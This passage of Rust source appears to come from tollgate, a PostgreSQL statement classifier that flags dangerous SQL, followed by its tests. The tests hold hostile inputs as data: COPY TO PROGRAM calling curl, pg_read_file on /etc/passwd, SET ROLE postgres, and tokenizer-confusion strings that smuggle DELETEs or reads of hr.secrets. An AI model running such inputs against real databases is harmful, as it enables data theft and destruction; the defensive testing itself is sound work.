    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<()> {
        match statement {
            Statement::Execute { name, .. } => {
                self.runs_prepared = true;
                if let Some(last) = name
                    .as_ref()
                    .and_then(|n| n.0.last())
                    .and_then(|p| p.as_ident())
                {
                    self.runs_by_name.push(RunByName::Statement(fold(
                        &last.value,
                        last.quote_style.is_some(),
                    )));
                }
            }
            // A comment is written into the catalog for its table: the
            // table's write rules hold (`deny_tables` among them).
            Statement::Comment {
                object_type,
                object_name,
                ..
            } => {
                use sqlparser::ast::CommentObject;
                let table = match object_type {
                    CommentObject::Table
                    | CommentObject::ForeignTable
                    | CommentObject::View
                    | CommentObject::MaterializedView
                    | CommentObject::Sequence
                    | CommentObject::Index => Some(object_name.clone()),
                    // `table.column`, or `schema.table.column`.
                    CommentObject::Column if object_name.0.len() >= 2 => Some(ObjectName(
                        object_name.0[..object_name.0.len() - 1].to_vec(),
                    )),
                    _ => None,
                };
                if let Some(table) = table {
                    self.written.extend(table_names(&table));
                }
            }
            Statement::Fetch { name, .. } => {
                self.runs_by_name.push(RunByName::Portal(fold(
                    &name.value,
                    name.quote_style.is_some(),
                )));
            }
            Statement::Insert(insert) => {
                self.modifies_data = true;
                if let TableObject::TableName(name) = &insert.table {
                    self.target(name, insert.returning.is_some());
                }
            }
            Statement::Update(update) => {
                self.modifies_data = true;
                if let TableFactor::Table { name, .. } = &update.table.relation {
                    self.target(name, update.returning.is_some());
                }
                if no_condition(update.selection.as_ref()) {
                    self.dangers.insert(Danger::UpdateWithoutWhere);
                }
                if update.from.is_some() {
                    if let TableFactor::Table { name, .. } = &update.table.relation {
                        self.read_also.extend(table_names(name));
                    }
                }
            }
            Statement::Delete(delete) => {
                self.modifies_data = true;
                let tables = match &delete.from {
                    FromTable::WithFromKeyword(tables) | FromTable::WithoutKeyword(tables) => {
                        tables
                    }
                };
                for table in tables {
                    if let TableFactor::Table { name, .. } = &table.relation {
                        self.target(name, delete.returning.is_some());
                    }
                }
                for name in &delete.tables {
                    self.target(name, delete.returning.is_some());
                }
                if no_condition(delete.selection.as_ref()) {
                    self.dangers.insert(Danger::DeleteWithoutWhere);
                }
            }
            // An index is built into its table (and locks it against
            // writes while it is): the table's write rules hold. Its rows
            // are read as well.
            Statement::CreateIndex(create) => self.target(&create.table_name, true),
            Statement::CreateTable(create) => {
                self.target(&create.name, false);
                // Rows of a child show in every read of its parents, and a
                // partition takes the rows written to its parent.
                for parent in create.inherits.iter().flatten().chain(&create.partition_of) {
                    self.written.extend(table_names(parent));
                }
                // A foreign key reads the table it references (and answers
                // whether a key is there).
                let column_keys = create.columns.iter().flat_map(|column| {
                    column
                        .options
                        .iter()
                        .filter_map(|option| match &option.option {
                            sqlparser::ast::ColumnOption::ForeignKey(key) => Some(key),
                            _ => None,
                        })
                });
                let table_keys = create.constraints.iter().filter_map(|c| match c {
                    sqlparser::ast::TableConstraint::ForeignKey(key) => Some(key),
                    _ => None,
                });
                let referenced: Vec<ObjectName> = column_keys
                    .chain(table_keys)
                    .map(|key| key.foreign_table.clone())
                    .collect();
                for table in referenced {
                    self.note_relation(table_names(&table));
                }
            }
            Statement::CreateView(create) => self.target(&create.name, false),
            // A body in a string (PL/pgSQL, or SQL quoted): what it reads
            // and writes when called is not seen. A BEGIN ATOMIC body is
            // parsed, and its tables count.
            Statement::CreateFunction(create) => {
                if matches!(
                    create.function_body,
                    Some(
                        sqlparser::ast::CreateFunctionBody::AsBeforeOptions { .. }
                            | sqlparser::ast::CreateFunctionBody::AsAfterOptions(_)
                    )
                ) {
                    self.dangers.insert(Danger::OpaqueRoutine);
                }
            }
            Statement::Merge(merge) => {
                self.modifies_data = true;
                // MERGE reads its target (the ON join) and changes it.
                if let TableFactor::Table { name, .. } = &merge.table {
                    self.target(name, true);
                }
                use sqlparser::ast::{MergeAction, MergeClauseKind};
                // Every target row matches only when the join does not
                // choose (`ON true`) and the clause adds no AND.
                let every_row = no_condition(Some(&merge.on));
                for clause in &merge.clauses {
                    if every_row
                        && clause.clause_kind == MergeClauseKind::Matched
                        && no_condition(clause.predicate.as_ref())
                    {
                        match clause.action {
                            MergeAction::Update(_) => {
                                self.dangers.insert(Danger::UpdateWithoutWhere);
                            }
                            MergeAction::Delete { .. } => {
                                self.dangers.insert(Danger::DeleteWithoutWhere);
                            }
                            _ => {}
                        }
                    }
                }
            }
            Statement::Truncate(truncate) => {
                for table in &truncate.table_names {
                    self.target(&table.name, false);
                }
                // CASCADE empties the tables that refer to these too,
                // which the text does not name.
                if matches!(
                    truncate.cascade,
                    Some(sqlparser::ast::CascadeOption::Cascade)
                ) {
                    self.written.insert(UNKNOWN_TABLES.into());
                }
                self.dangers.insert(Danger::Truncate);
            }
            Statement::Drop {
                names,
                object_type,
                cascade,
                ..
            } => {
                if matches!(
                    object_type,
                    ObjectType::Table
                        | ObjectType::ForeignTable
                        | ObjectType::View
                        | ObjectType::MaterializedView
                        | ObjectType::Index
                        | ObjectType::Sequence
                ) {
                    for name in names {
                        self.written.extend(table_names(name));
                    }
                }
                if *object_type == ObjectType::Schema {
                    for name in names {
                        self.written.insert(every_table_of(name));
                    }
                }
                self.note_drop(*cascade);
            }
            // The other DROPs sqlparser reads into statements of their own:
            // each a drop, and with CASCADE it drops what depends on the
            // object too (a domain's or an extension's type takes every
            // column of it, a function takes defaults, views, triggers).
            Statement::DropFunction(sqlparser::ast::DropFunction { drop_behavior, .. })
            | Statement::DropDomain(sqlparser::ast::DropDomain { drop_behavior, .. })
            | Statement::DropProcedure { drop_behavior, .. }
            | Statement::DropOperator(sqlparser::ast::DropOperator { drop_behavior, .. })
            | Statement::DropOperatorFamily(sqlparser::ast::DropOperatorFamily {
                drop_behavior,
                ..
            })
            | Statement::DropOperatorClass(sqlparser::ast::DropOperatorClass {
                drop_behavior,
                ..
            }) => self.note_drop(cascades(drop_behavior.as_ref())),
            Statement::DropExtension(drop) => self.note_drop(matches!(
                drop.cascade_or_restrict,
                Some(sqlparser::ast::ReferentialAction::Cascade)
            )),
            // A trigger, policy or rule is part of its table: dropping one
            // changes what the table does.
            Statement::DropTrigger(drop) => {
                if let Some(table) = &drop.table_name {
                    self.written.extend(table_names(table));
                }
                self.note_drop(matches!(
                    drop.option,
                    Some(sqlparser::ast::ReferentialAction::Cascade)
                ));
            }
            Statement::DropPolicy(sqlparser::ast::DropPolicy {
                table_name,
                drop_behavior,
                ..
            })
            | Statement::DropRule(sqlparser::ast::DropRule {
                table_name,
                drop_behavior,
                ..
            }) => {
                self.written.extend(table_names(table_name));
                self.note_drop(cascades(drop_behavior.as_ref()));
            }
            Statement::CreateTrigger(create) => {
                self.written.extend(table_names(&create.table_name));
            }
            // A policy or rule is part of its table as a trigger is:
            // creating or changing one changes what the table does (a rule
            // `DO INSTEAD NOTHING` drops every later insert).
            Statement::CreatePolicy(create) => {
                self.written.extend(table_names(&create.table_name));
            }
            Statement::AlterPolicy(alter) => {
                self.written.extend(table_names(&alter.table_name));
            }
            Statement::CreateRule(create) => {
                self.written.extend(table_names(&create.table_name));
            }
            // What rewrites a relation or holds it from everyone else:
            // VACUUM (FULL rewrites, takes an exclusive lock), REFRESH
            // MATERIALIZED VIEW, LOCK TABLE. Without a table, VACUUM
            // takes every table it may.
            // The parser takes an option written after VACUUM [FULL]
            // (`VACUUM FULL VERBOSE`) for a table's name: such a one-word
            // name is no table, and the VACUUM takes every table.
            Statement::Vacuum(vacuum) => match &vacuum.table_name {
                Some(table) if !is_vacuum_option(table) => self.written.extend(table_names(table)),
                _ => {
                    self.written.insert(UNKNOWN_TABLES.into());
                }
            },
            Statement::RefreshMaterializedView(refresh) => {
                self.written.extend(table_names(&refresh.name));
            }
            Statement::Lock(lock) => {
                for target in &lock.tables {
                    self.written.extend(table_names(&target.name));
                }
            }
            Statement::AlterTable(alter) => {
                self.target(&alter.name, false);
                use sqlparser::ast::{AlterTableOperation, ColumnOption, TableConstraint};
                for operation in &alter.operations {
                    match operation {
                        AlterTableOperation::AddConstraint {
                            constraint: TableConstraint::ForeignKey(key),
                            ..
                        } => self.note_relation(table_names(&key.foreign_table)),
                        AlterTableOperation::AddColumn { column_def, .. } => {
                            for option in &column_def.options {
                                if let ColumnOption::ForeignKey(key) = &option.option {
                                    self.note_relation(table_names(&key.foreign_table));
                                }
                            }
                        }
                        // The attached table's rows join the partitioned one.
                        AlterTableOperation::AttachPartitionOf { partition, .. } => {
                            self.written.extend(table_names(partition));
                        }
                        _ => {}
                    }
                }
                self.dangers.insert(Danger::Alter);
            }
            // ALTER INDEX renames (and alters) any relation, tables too.
            Statement::AlterIndex { name, .. } => {
                self.written.extend(table_names(name));
                self.dangers.insert(Danger::Alter);
            }
            // Renaming a schema, or giving it away, moves every table in it.
            Statement::AlterSchema(alter) => {
                self.written.insert(every_table_of(&alter.name));
            }
            // A view is a relation: renamed, given away or redefined, it
            // is written as a table would be.
            Statement::AlterView(alter) => {
                self.written.extend(table_names(&alter.name));
                self.dangers.insert(Danger::Alter);
            }
            Statement::AlterRole { .. } => {
                self.dangers.insert(Danger::Alter);
            }
            // A sequence is a relation too (read with SELECT, advanced by
            // nextval): making one writes its name.
            Statement::CreateSequence { name, .. } => {
                self.written.extend(table_names(name));
            }
            // A foreign server or table reads files, runs programs
            // (file_fdw's `program`) or reaches other servers, as COPY and
            // dblink do.
            Statement::CreateServer(_)
            | Statement::CreateForeignTable(_)
            | Statement::CreateForeignDataWrapper(_)
            | Statement::CreateUserMapping(_) => {
                self.dangers.insert(Danger::FileOrProgramFunction);
            }
            Statement::Grant(_)
            | Statement::Revoke(_)
            | Statement::GrantRole(_)
            | Statement::RevokeRole(_) => {
                self.dangers.insert(Danger::GrantRevoke);
                // Privileges on tables are written into their catalog
                // rows: the tables' write rules hold (`deny_tables` among
                // them), and `ON ALL TABLES IN SCHEMA s` names every one.
                let objects = match statement {
                    Statement::Grant(grant) => grant.objects.as_ref(),
                    Statement::Revoke(revoke) => revoke.objects.as_ref(),
                    _ => None,
                };
                self.note_privileged_tables(objects);
            }
            Statement::Set(set) if set_kind(set) == StatementKind::Admin => {
                let role_change = match set {
                    Set::SingleAssignment { variable, .. } => {
                        let name = setting_name(variable);
                        name == "role" || name == "session_authorization"
                    }
                    Set::SetRole { .. } | Set::SetSessionAuthorization(_) => true,
                    _ => false,
                };
                if role_change {
                    self.dangers.insert(Danger::SetRole);
                }
            }
            Statement::Copy {
                source, to, target, ..
            } => {
                self.modifies_data |= !*to;
                if let CopySource::Table {
                    table_name: name, ..
                } = source
                {
                    if *to {
                        // Read as any relation is (a sample table, other
                        // sessions' statements, ...).
                        self.note_relation(table_names(name));
                    } else {
                        self.written.extend(table_names(name));
                    }
                }
                match target {
                    CopyTarget::Program { .. } => {
                        self.dangers.insert(Danger::CopyProgram);
                    }
                    // COPY to or from a file on the database server.
                    CopyTarget::File { .. } => {
                        self.dangers.insert(Danger::FileOrProgramFunction);
                    }
                    CopyTarget::Stdin | CopyTarget::Stdout => {}
                }
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }
}

/// Whether PostgreSQL has `op` built in (as its scanner cuts operators:
/// see [`lexical::operators_of_run`]): a binary or prefix operator of a
/// fresh cluster, or `=>` (a named argument). PostgreSQL 14 dropped its
/// last postfix operator. Any other is a database's own: a function
/// tollgate cannot look into.
fn is_built_in_operator(op: &str) -> bool {
    op == "=>" || BUILT_IN_BINARY_OPERATORS.contains(&op) || BUILT_IN_PREFIX_OPERATORS.contains(&op)
}

/// The binary operators of PostgreSQL 15 (`SELECT DISTINCT oprname FROM
/// pg_operator WHERE oprkind = 'b'` on a fresh cluster), and `!=`, which
/// its parser reads as `<>`.
const BUILT_IN_BINARY_OPERATORS: &[&str] = &[
    "!=", "!~", "!~*", "!~~", "!~~*", "#", "##", "#-", "#>", "#>>", "%", "&", "&&", "&<", "&<|",
    "&>", "*", "*<", "*<=", "*<>", "*=", "*>", "*>=", "+", "-", "->", "->>", "-|-", "/", "<",
    "<->", "<<", "<<=", "<<|", "<=", "<>", "<@", "<^", "=", ">", ">=", ">>", ">>=", ">^", "?",
    "?#", "?&", "?-", "?-|", "?|", "?||", "@>", "@?", "@@", "@@@", "^", "^@", "|", "|&>", "|>>",
    "||", "~", "~*", "~<=~", "~<~", "~=", "~>=~", "~>~", "~~", "~~*",
];

/// The prefix operators of PostgreSQL 15 (`oprkind = 'l'`).
const BUILT_IN_PREFIX_OPERATORS: &[&str] = &[
    "!!", "#", "+", "-", "?-", "?|", "@", "@-@", "@@", "|/", "||/", "~",
];

/// `schema.table`, folding unquoted identifiers to lower case as
/// PostgreSQL does; unqualified names get [`DEFAULT_SCHEMA`].
fn table_name(name: &ObjectName) -> String {
    let parts: Vec<String> = name
        .0
        .iter()
        .filter_map(|part| part.as_ident())
        .map(|ident| name_part(&fold(&ident.value, ident.quote_style.is_some())))
        .collect();
    match parts.len() {
        0 => String::new(),
        1 => format!("{DEFAULT_SCHEMA}.{}", parts[0]),
        // database.schema.table: the database is the session's anyway.
        _ => parts[parts.len() - 2..].join("."),
    }
}

/// The tables `name` may be. PostgreSQL searches pg_catalog before the
/// path, so an unqualified `pg_...` name is the catalog's if the catalog
/// has it and `public`'s otherwise: both are recorded, so a deny or a mask
/// of either holds, and an allow must cover both.
fn table_names(name: &ObjectName) -> Vec<String> {
    let qualified = table_name(name);
    match (name.0.as_slice(), qualified.strip_prefix("public.")) {
        ([_], Some(table)) if table.starts_with("pg_") => {
            vec![format!("pg_catalog.{table}"), qualified.clone()]
        }
        _ => vec![qualified],
    }
}

/// A schema or table name as it appears in `schema.table`: quoted (with
/// quotes doubled) when it holds a `.` or `"`, so that `"public.x".secrets`
/// cannot pass for `public.x.secrets` and match `public.*`.
fn name_part(folded: &str) -> String {
    if folded.contains(['.', '"', '*', '?']) {
        format!("\"{}\"", folded.replace('"', "\"\""))
    } else {
        folded.to_owned()
    }
}

fn fold(ident: &str, quoted: bool) -> String {
    let mut folded = if quoted {
        ident.to_owned()
    } else {
        ident.to_ascii_lowercase()
    };
    // PostgreSQL cuts a longer identifier to its first NAMEDATALEN - 1
    // bytes (at a character boundary), and uses what is left: a 64-byte
    // name is the 63-byte table's, which a rule for that table must see.
    if folded.len() > MAX_IDENTIFIER_BYTES {
        let mut cut = MAX_IDENTIFIER_BYTES;
        while !folded.is_char_boundary(cut) {
            cut -= 1;
        }
        folded.truncate(cut);
    }
    folded
}

/// The longest identifier PostgreSQL keeps (NAMEDATALEN - 1).
const MAX_IDENTIFIER_BYTES: usize = 63;

#[cfg(test)]
mod token_bound_tests {
    use super::*;
    use proptest::prelude::*;

    fn tokens(sql: &str) -> Option<usize> {
        Tokenizer::new(&PostgreSqlDialect {}, sql)
            .tokenize()
            .ok()
            .map(|t| t.len())
    }

    #[test]
    fn the_bound_holds_for_the_texts_that_cost_most() {
        for sql in [
            "1a,1a,1a,1a",
            "12ab34,0xFFg,1e5x,9e9e9,1_000a",
            "1.5.5.5.5",
            "1..2..3",
            "SELECT 1 ,1,1,1,1",
            "SELECT 1          ",
            "SELECT $1,$2,$3,$4",
            "SELECT 'a','b' /* c */ -- d\n",
            "SELECT →→→ ééé 中文",
            "SELECT é,é,é,→,中,\u{a0},\u{3000}",
            "SELECT a.b.c::int[]",
            "\r\n\r\n\t",
        ] {
            let bound = token_bound(sql);
            let made = tokens(sql).unwrap_or(0);
            assert!(made <= bound, "{sql:?}: {made} tokens, bound {bound}");
        }
    }

    fn tricky_text() -> impl Strategy<Value = String> {
        let pieces = prop::sample::select(vec![
            " ", "\n", "\r", "\t", "0", "1", "9", "e", "x", "b", "o", "a", "_", "$", ".", ",", ";",
            "'", "\"", "/*", "*/", "--", "::", ":", "!", "<", "=", ">", "+", "-", "*", "/", "(",
            ")", "[", "]", "\\", "é", "→", "中", "@", "#", "%", "^", "&", "|", "~", "?", "`", "{",
            "}",
        ]);
        prop::collection::vec(pieces, 0..64).prop_map(|v| v.concat())
    }

    proptest! {
        /// Whatever the tokenizer makes of a text, it makes no more tokens
        /// than the bound: the budget a text takes covers what parsing it
        /// costs.
        #[test]
        fn the_tokenizer_never_makes_more_tokens_than_the_bound(sql in tricky_text()) {
            if let Some(made) = tokens(&sql) {
                prop_assert!(made <= token_bound(&sql), "{:?}: {} > {}", sql, made, token_bound(&sql));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use StatementKind::*;

    fn one(sql: &str) -> Operation {
        let mut all = classify(sql).unwrap_or_else(|err| panic!("{sql}: {err}"));
        assert_eq!(all.len(), 1, "{sql}");
        all.remove(0)
    }

    fn set(names: &[&str]) -> BTreeSet<String> {
        names.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn kinds() {
        for (sql, kind) in [
            ("SELECT 1", Read),
            ("SELECT * FROM customers", Read),
            ("INSERT INTO customers VALUES (1)", Write),
            ("UPDATE customers SET name = 'x' WHERE id = 1", Write),
            ("DELETE FROM customers WHERE id = 1", Write),
            ("CREATE TABLE t (id int)", Ddl),
            ("ALTER TABLE t ADD COLUMN c int", Ddl),
            ("DROP TABLE t", Ddl),
            ("TRUNCATE t", Ddl),
            ("GRANT SELECT ON t TO bob", Dcl),
            ("REVOKE SELECT ON t FROM bob", Dcl),
            ("BEGIN", Transaction),
            ("COMMIT", Transaction),
            ("ROLLBACK", Transaction),
            ("SET statement_timeout = 1000", Utility),
            ("SET search_path = secret", Admin),
            (r#"SET "search_path" = secret"#, Admin),
            ("SET standard_conforming_strings = off", Admin),
            ("SET NAMES 'SJIS'", Admin),
            ("SET TIME ZONE 'UTC'", Utility),
            ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", Utility),
            // SQL EXECUTE runs a statement prepared out of tollgate's sight.
            ("EXECUTE s1", Admin),
            ("EXPLAIN ANALYZE EXECUTE s1", Admin),
            ("SET ROLE admin", Admin),
            ("SHOW work_mem", Utility),
            ("VACUUM customers", Admin),
            ("COPY customers TO STDOUT", Read),
            ("COPY customers FROM STDIN", Write),
            ("SELECT * INTO t2 FROM customers", Write),
            (
                "WITH gone AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM gone",
                Write,
            ),
        ] {
            assert_eq!(one(sql).kind, kind, "{sql}");
        }
    }

    #[test]
    fn tables_read_and_written_are_schema_qualified() {
        let c = one("SELECT c.name, o.total FROM customers c JOIN sales.orders o ON o.cid = c.id");
        assert_eq!(c.reads, set(&["public.customers", "sales.orders"]));
        assert!(c.writes.is_empty());

        let c = one("INSERT INTO audit_copy SELECT * FROM Customers");
        assert_eq!(c.writes, set(&["public.audit_copy"]));
        assert_eq!(c.reads, set(&["public.customers"]));

        let c = one(r#"UPDATE "Mixed"."Case" SET a = 1 WHERE b = 2"#);
        assert_eq!(c.writes, set(&["Mixed.Case"]));

        let c = one("SELECT g FROM generate_series(1, 3) g");
        assert!(
            c.reads.is_empty(),
            "a table function is not a table: {:?}",
            c.reads
        );
        assert!(c.calls_functions);
        // A call named like a table does not hide that table read
        // elsewhere in the statement.
        for sql in [
            "SELECT * FROM unnest(ARRAY[1]) u, public.unnest t",
            "SELECT * FROM public.unnest t, unnest(ARRAY[1]) u",
            "SELECT * FROM secrets(1) f JOIN secrets s ON true",
        ] {
            let c = one(sql);
            let table = if sql.contains("secrets") {
                "public.secrets"
            } else {
                "public.unnest"
            };
            assert!(c.reads.contains(table), "{sql}: {:?}", c.reads);
        }
        assert!(!one("SELECT name FROM customers WHERE id = $1").calls_functions);
        assert!(!one("SELECT count(*), upper(name) FROM customers GROUP BY name").calls_functions);
        assert!(one("SELECT nextval('s')").calls_functions, "nextval writes");
        assert!(
            one("SELECT app.count(1)").calls_functions,
            "a schema-qualified function is not the built-in"
        );

        let c = one("COPY customers TO STDOUT");
        assert_eq!(c.reads, set(&["public.customers"]));
        assert!(c.streams_raw);
        let c = one("COPY (SELECT email FROM customers) TO STDOUT");
        assert_eq!(c.reads, set(&["public.customers"]));
        assert!(!one("COPY customers TO STDOUT").takes_client_data);
        let c = one("COPY customers FROM STDIN");
        assert!(c.takes_client_data);
        assert_eq!(c.writes, set(&["public.customers"]));

        let c = one("WITH recent AS (SELECT * FROM orders) SELECT * FROM recent");
        assert_eq!(c.reads, set(&["public.orders"]), "a CTE is not a table");
    }

    #[test]
    fn dangerous_statements_and_their_near_misses() {
        for (sql, danger) in [
            ("DROP TABLE customers", Some(Danger::Drop)),
            ("CREATE TABLE t (id int)", None),
            ("TRUNCATE customers", Some(Danger::Truncate)),
            ("DELETE FROM customers", Some(Danger::DeleteWithoutWhere)),
            ("DELETE FROM customers WHERE id = 3", None),
            (
                "UPDATE customers SET name = 'x'",
                Some(Danger::UpdateWithoutWhere),
            ),
            ("UPDATE customers SET name = 'x' WHERE id = 1", None),
            (
                "ALTER TABLE customers DROP COLUMN email",
                Some(Danger::Alter),
            ),
            (
                "GRANT ALL ON customers TO public",
                Some(Danger::GrantRevoke),
            ),
            (
                "COPY customers TO PROGRAM 'curl evil'",
                Some(Danger::CopyProgram),
            ),
            ("COPY customers TO STDOUT", None),
            (
                "COPY customers FROM '/etc/passwd'",
                Some(Danger::FileOrProgramFunction),
            ),
            (
                "SELECT pg_read_file('/etc/passwd')",
                Some(Danger::FileOrProgramFunction),
            ),
            (
                "SELECT * FROM pg_ls_dir('/')",
                Some(Danger::FileOrProgramFunction),
            ),
            (
                "SELECT * FROM LATERAL pg_read_file('/etc/passwd')",
                Some(Danger::FileOrProgramFunction),
            ),
            ("SELECT * FROM pg_read_file", None),
            (
                "SELECT * FROM pg_ls_logdir()",
                Some(Danger::FileOrProgramFunction),
            ),
            (
                "SELECT options FROM pg_hba_file_rules",
                Some(Danger::FileOrProgramFunction),
            ),
            (
                "SELECT name, setting FROM pg_catalog.pg_file_settings",
                Some(Danger::FileOrProgramFunction),
            ),
            (
                "SELECT * FROM pg_ident_file_mappings",
                Some(Danger::FileOrProgramFunction),
            ),
            ("SELECT length('/etc/passwd')", None),
            ("SET ROLE postgres", Some(Danger::SetRole)),
            (r#"SET "role" = 'postgres'"#, Some(Danger::SetRole)),
            ("SET SESSION AUTHORIZATION postgres", Some(Danger::SetRole)),
            ("SET application_name = 'x'", None),
        ] {
            let c = one(sql);
            match danger {
                Some(danger) => assert!(c.dangers.contains(&danger), "{sql}: {:?}", c.dangers),
                None => assert!(c.dangers.is_empty(), "{sql}: {:?}", c.dangers),
            }
        }
    }

    /// Every way to change client_encoding that tollgate can see, and
    /// near misses that do not change it.
    #[test]
    fn statements_that_change_the_client_encoding() {
        for (sql, changes) in [
            ("SET client_encoding = 'SJIS'", true),
            ("SET client_encoding TO 'SJIS'", true),
            ("SET LOCAL CLIENT_ENCODING = 'BIG5'", true),
            (r#"SET "client_encoding" = 'GBK'"#, true),
            ("SET NAMES 'SJIS'", true),
            ("SET NAMES DEFAULT", true),
            ("SELECT set_config('client_encoding', 'SJIS', false)", true),
            (
                "SELECT pg_catalog.set_config(' Client_Encoding ', 'SJIS', false)",
                true,
            ),
            (
                "SELECT 1 FROM t WHERE set_config('client_encoding', 'SJIS', false) IS NULL",
                true,
            ),
            ("SELECT * FROM set_config('client_encoding', 'SJIS', false)", true),
            ("SELECT * FROM LATERAL set_config('client_encoding', 'SJIS', false)", true),
            ("SELECT * FROM t, LATERAL pg_catalog.set_config('client_encoding', 'SJIS', false) AS s", true),
            ("SELECT * FROM LATERAL set_config('application_name', 'x', false)", false),
            // A table named set_config is no call.
            ("SELECT * FROM set_config", false),
            // A name tollgate cannot read might be client_encoding.
            (
                "SELECT set_config(current_setting('x.y'), 'SJIS', false)",
                true,
            ),
            ("SELECT set_config('application_name', 'x', false)", false),
            ("SET application_name = 'client_encoding'", false),
            ("SELECT 'client_encoding'", false),
            ("SHOW client_encoding", false),
            // To what it already is: no change.
            ("SET client_encoding TO 'unicode'", false),
            ("SET client_encoding = UTF8", false),
            ("SET client_encoding = 'utf-8'", false),
            ("SET NAMES 'UTF8'", false),
            ("SELECT set_config('client_encoding', 'UTF8', false)", false),
            // A column named unicode holds whatever it holds.
            (
                "SELECT set_config('client_encoding', unicode, false) FROM (VALUES ('SJIS')) v(unicode)",
                true,
            ),
            ("SET client_encoding = 'UTF16'", true),
            ("SELECT set_config('client_encoding', current_setting('x.y'), false)", true),
            ("RESET client_encoding", false),
        ] {
            assert_eq!(one(sql).changes_text_encoding, changes, "{sql}");
        }
    }

    #[test]
    fn several_statements_in_one_query() {
        let all = classify("BEGIN; UPDATE customers SET name = 'x' WHERE id = 1; COMMIT").unwrap();
        let kinds: Vec<_> = all.iter().map(|c| c.kind).collect();
        assert_eq!(kinds, vec![Transaction, Write, Transaction]);
    }

    #[test]
    fn garbage_does_not_parse() {
        assert!(classify("SELEKT * FROM").is_err());
    }

    /// Text that sqlparser and PostgreSQL would split into different
    /// tokens (and so different statements) is not understood: the server
    /// must never run a statement other than the one decided and recorded.
    #[test]
    fn text_postgresql_reads_differently_is_not_understood() {
        for sql in [
            // A dollar quote whose tag has a character PostgreSQL allows
            // (any non-ASCII byte) and sqlparser does not.
            "SELECT $€$ -- $€$; DELETE FROM orders",
            // An operator running into a comment: PostgreSQL ends the
            // operator where `--` or `/*` starts.
            "SELECT 1 >--'\n0; DELETE FROM orders; SELECT 1 --'",
            "SELECT 1 >/*'\n*/ 0; DELETE FROM orders; SELECT '*/'",
            // A bare `$` is no parameter in PostgreSQL.
            "SELECT $ FROM orders",
            // `?-` for the tokenizer, `?` and a comment for PostgreSQL.
            "SELECT '{}'::jsonb ?--'\n chr(107), (SELECT string_agg(secret, ',') FROM hr.secrets) --'",
            // A tag starting with a digit: `$1` and `a$` for PostgreSQL 14.
            "SELECT $1a$, (SELECT string_agg(secret, ',') FROM hr.secrets), $1a$",
            // The parser stops at END; PostgreSQL reads an alias.
            "SELECT *, 1 END FROM hr.secrets",
            "SELECT 1 END, pg_read_file('/etc/passwd')",
            // Lines the tokenizer takes as COPY data, which PostgreSQL runs.
            "COPY t FROM STDIN; SELECT 1\n, s.* FROM hr.secrets s",
            "CREATE TEMP TABLE begin (a int); END; COPY t FROM STDIN;\nDELETE FROM orders",
        ] {
            assert!(classify(sql).is_err(), "{sql}: {:?}", classify(sql));
        }
        // What both read alike still parses.
        for sql in [
            "SELECT $tag$ -- $tag$; SELECT 2",
            "SELECT 'a--b' || $$/*$$, 1 >= 0 -- the end",
            "SELECT $1 + $2",
            "SELECT a$b FROM t",
            "SELECT 1 /* nested /* comment */ still */ ; SELECT 2",
            "SELECT E'it\\'s' ; SELECT 2",
            "SELECT B'0101', X'1F', N'n', U&'d\\0061t\\+000061', \"Quoted \"\"name\"\"\" FROM t",
            "SELECT 'multi\nline' /* c1 */ -- c2\n, \"x\" FROM \"T\"",
            "SELECT x FROM t WHERE a>=-1 AND b<>-2",
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END",
            "CREATE TABLE x (begin date); SELECT 1",
            "COPY t FROM STDIN",
        ] {
            assert!(classify(sql).is_ok(), "{sql}: {:?}", classify(sql));
        }
    }

    /// What PostgreSQL reads through forms the walk must not miss.
    #[test]
    fn tables_behind_table_cte_names_and_into_are_seen() {
        for (sql, reads) in [
            // `TABLE x` is `SELECT * FROM x`.
            ("SELECT * FROM (TABLE secrets) s", &["public.secrets"][..]),
            (
                "WITH s AS (TABLE hr.secrets) SELECT * FROM s",
                &["hr.secrets"],
            ),
            ("COPY (TABLE customers) TO STDOUT", &["public.customers"]),
            // A schema-qualified name is never a CTE.
            (
                "WITH secrets AS (SELECT 1) SELECT * FROM public.secrets",
                &["public.secrets"],
            ),
            // A CTE is visible only in its own query and below.
            (
                "SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT 1) x",
                &["public.secrets"],
            ),
            // Without RECURSIVE, a CTE's own name in its body is the table.
            (
                "WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets",
                &["public.secrets"],
            ),
            // And a later CTE's name in an earlier one's body.
            (
                "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
                &["public.b"],
            ),
            // Still a CTE where it is one.
            (
                "WITH s AS (SELECT * FROM orders) SELECT * FROM s",
                &["public.orders"],
            ),
            (
                "WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) SELECT * FROM r",
                &[],
            ),
        ] {
            let op = one(sql);
            assert_eq!(op.reads, set(reads), "{sql}");
        }
        for (sql, writes) in [
            ("SELECT * INTO hr.copy FROM orders", &["hr.copy"][..]),
            ("SELECT 1 AS a INTO public.x UNION ALL SELECT 2", &["public.x"]),
            ("(SELECT * INTO TEMP t FROM orders)", &["public.t"]),
            (
                "MERGE INTO public.orders o USING (SELECT 1 AS id) s ON true WHEN MATCHED THEN DELETE",
                &["public.orders"],
            ),
        ] {
            let op = one(sql);
            assert_eq!(op.kind, Write, "{sql}");
            assert_eq!(op.writes, set(writes), "{sql}");
        }
    }

    /// Row locks need UPDATE privilege and change tuples: a write, never
    /// provably read-only.
    #[test]
    fn row_locking_selects_are_writes() {
        for sql in [
            "SELECT * FROM orders FOR UPDATE",
            "SELECT * FROM orders FOR SHARE",
            "SELECT * FROM (SELECT * FROM orders FOR UPDATE) o",
            "WITH o AS (SELECT * FROM orders FOR UPDATE) SELECT * FROM o",
        ] {
            assert_eq!(one(sql).kind, Write, "{sql}");
        }
    }

    /// Functions that run SQL given to them as text read tables tollgate
    /// cannot see: the statement is not understood.
    #[test]
    fn functions_that_run_sql_text_are_not_understood() {
        for sql in [
            "SELECT query_to_xml('SELECT * FROM secrets', true, false, '')",
            "SELECT table_to_xml('public.customers', false, false, '')",
            "SELECT * FROM ts_stat('SELECT body FROM secrets')",
            "SELECT pg_catalog.cursor_to_xml('c', 10, false, false, '')",
